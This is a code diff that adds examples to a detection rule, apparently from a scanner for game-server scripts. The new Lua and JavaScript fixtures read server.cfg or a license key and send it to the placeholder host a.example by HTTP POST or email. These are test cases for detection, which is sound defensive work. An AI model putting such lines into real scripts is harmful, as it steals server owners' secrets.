@@ -33,6 +33,10 @@ export const secretAndHttp = defineRule({
   },
   examples: {
     found: [
+      lua(`io.input('server.cfg')
+^PerformHttpRequest('https://a.example', print, 'POST', io.read('a'))`),
+      js(`const text = require('fs').readFileSync('server.cfg', 'utf8')
+^require('nodemailer').createTransport({ host: 'a.example' }).sendMail({ to: 'a@a.example', text })`),
       js(`const status = { get build() { return GetConvar('sv_licenseKey', '') } }
 ^fetch('https://a.example', { method: 'POST', body: JSON.stringify(status) })`),
       js(`const status = {}
